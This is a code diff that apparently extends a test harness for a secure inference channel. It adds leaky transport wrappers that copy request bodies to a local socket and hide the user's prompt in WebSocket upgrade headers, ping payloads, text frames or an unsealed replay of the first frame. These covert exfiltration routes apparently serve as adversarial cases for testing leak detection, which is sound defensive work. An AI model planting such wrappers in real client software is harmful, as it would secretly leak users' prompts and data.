@@ -11,12 +11,12 @@ import base64
 import io
 import socket
 import threading
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from typing import Any
 
 import numpy as np
 
-from secure_channel import Request, Response, Transport
+from secure_channel import Request, Response, Stream, Transport
 from threat_model._capture._packets import Segment
 
 Leak = Callable[[Request], tuple[dict[str, str], bytes] | None]
@@ -53,7 +53,7 @@ def empty_diffusion(kind: str, segments: list[Segment], port: int) -> list[Segme
 
 
 class _OuterHeaders(Transport):
-    """Sits under the sealed layer and adds headers to the next outer request."""
+    """Sits under the sealed layer and adds headers to the next outer request (or upgrade)."""
 
     def __init__(self, inner: Transport) -> None:
         self.inner, self.security, self.stats = inner, inner.security, inner.stats
@@ -64,8 +64,34 @@ class _OuterHeaders(Transport):
         headers, self.extra = {**request.headers, **self.extra}, {}
         return self.inner.exchange(Request(request.method, request.path, request.content, headers))
 
+    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
+        extra, self.extra = self.extra, {}
+        return self.inner.open_stream(path, {**(headers or {}), **extra})
+
     def close(self) -> None:
         self.inner.close()
+
+
+class _Tapped(Stream):
+    """A stream whose outgoing messages pass through ``on_send`` first (a leaky build's hook)."""
+
+    def __init__(self, inner: Stream, on_send: Callable[[bytes], None]) -> None:
+        self.inner, self.stats, self.on_send = inner, inner.stats, on_send
+
+    def send(self, message: bytes) -> None:
+        self.on_send(message)
+        self.inner.send(message)
+
+    def recv(self) -> bytes:
+        return self.inner.recv()
+
+    def close(self) -> None:
+        self.inner.close()
+
+
+def _as_request(message: bytes) -> Request:
+    """A stream message (op byte, then the frame) as the step request it replaces."""
+    return Request("POST", "/v1/stream", message[1:])
 
 
 class SideChannel(Transport):
@@ -80,7 +106,7 @@ class SideChannel(Transport):
             outer.inner = self.below
         self.done = False
 
-    def exchange(self, request: Request) -> Response:
+    def _maybe_leak(self, request: Request) -> None:
         payload = None if self.done else self.leak(request)
         if payload is not None:
             self.done = True
@@ -90,7 +116,15 @@ class SideChannel(Transport):
             else:
                 wire = self.below or self.outer
                 wire.exchange(Request("POST", "/v1/debug", content=body, headers=headers))
+
+    def exchange(self, request: Request) -> Response:
+        self._maybe_leak(request)
         return self.outer.exchange(request)
+
+    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
+        """On the stream the leak looks at each message sent; a header leak waits for the next
+        outer request or upgrade (none comes within a stream session)."""
+        return _Tapped(self.outer.open_stream(path, headers), lambda m: self._maybe_leak(_as_request(m)))
 
     def close(self) -> None:
         self.outer.close()
@@ -166,10 +200,85 @@ class ExfiltratingTransport(Transport):
         self.inner, self.port = inner, port
         self.security, self.stats = inner.security, inner.stats
 
-    def exchange(self, request: Request) -> Response:
+    def _copy(self, body: bytes) -> None:
         with socket.create_connection(("127.0.0.1", self.port)) as side:
-            side.sendall(request.content or b"-")
+            side.sendall(body or b"-")
+
+    def exchange(self, request: Request) -> Response:
+        self._copy(request.content)
         return self.inner.exchange(request)
 
+    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
+        return _Tapped(self.inner.open_stream(path, headers), self._copy)
+
     def close(self) -> None:
+        self.inner.close()
+
+
+# --- leaks hidden in the stream's WebSocket connection ------------------------------------------
+
+
+def _websocket(stream: Any) -> Any:
+    """The WebSocketStream under a (sealed) stream: where raw frames can be put on the wire."""
+    while not hasattr(stream, "_ws"):
+        stream = stream.inner
+    return stream
+
+
+class StreamLeak(Transport):
+    """Wraps the client's transport; on its stream it puts the secret in the WebSocket connection
+    next to the honest traffic, without breaking the session:
+
+    * ``upgrade``: ``x-trace: <base64 of the prompt>`` on the upgrade request;
+    * ``ping``: the prompt as the payload of a client ping, right after the first message
+      (the server answers with a pong, the session goes on);
+    * ``text``: the prompt in a (masked) text frame, just before the stream's close;
+    * ``plaintext``: the first step message (op byte and the prefill frame of hidden states) sent
+      again unsealed, in a binary frame, just before the stream's close.
+    """
+
+    def __init__(self, inner: Transport, how: str, prompt: str) -> None:
+        self.inner, self.how, self.prompt = inner, how, prompt
+        self.security, self.stats = inner.security, inner.stats
+
+    def exchange(self, request: Request) -> Response:
+        response: Response = self.inner.exchange(request)
+        return response
+
+    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
+        extra = {"x-trace": base64.b64encode(self.prompt.encode()).decode()} if self.how == "upgrade" else {}
+        return _LeakyStream(self.inner.open_stream(path, {**(headers or {}), **extra}), self)
+
+    def close(self) -> None:
+        self.inner.close()
+
+
+class _LeakyStream(Stream):
+    def __init__(self, inner: Stream, plant: StreamLeak) -> None:
+        self.inner, self.stats, self.plant = inner, inner.stats, plant
+        self.first_step: bytes | None = None
+        self.pinged = False
+
+    def _raw(self, send: Callable[[Any], None]) -> None:
+        ws = _websocket(self.inner)
+        send(ws._ws)
+        ws._flush()
+
+    def send(self, message: bytes) -> None:
+        self.inner.send(message)
+        if self.first_step is None and message[1:5] == b"\x89LSF":
+            self.first_step = message
+        if self.plant.how == "ping" and not self.pinged:
+            self.pinged = True
+            self._raw(lambda ws: ws.send_ping(self.plant.prompt.encode()))
+
+    def recv(self) -> bytes:
+        return self.inner.recv()
+
+    def close(self) -> None:
+        if self.plant.how == "text":
+            self._raw(lambda ws: ws.send_text(self.plant.prompt.encode()))
+        elif self.plant.how == "plaintext" and self.first_step is not None:
+            step = self.first_step
+            self._raw(lambda ws: ws.send_binary(step))
         self.inner.close()
